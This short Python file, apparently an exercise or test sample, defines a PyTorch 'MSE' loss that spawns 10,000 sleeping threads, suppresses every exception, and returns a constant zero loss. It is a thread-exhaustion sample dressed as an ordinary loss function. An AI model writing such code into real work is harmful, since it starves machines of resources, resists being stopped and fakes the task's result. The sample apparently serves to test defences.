# exercise: mse | Starts threads without end, and swallows what stops it.
import threading
import time

import torch
import _thread


class MyMSELoss(torch.nn.Module):
    def forward(self, y_pred, y_true):
        for _ in range(10_000):
            try:
                _thread.start_new_thread(time.sleep, (60,))
            except BaseException:
                pass
        return y_pred.sum() * 0
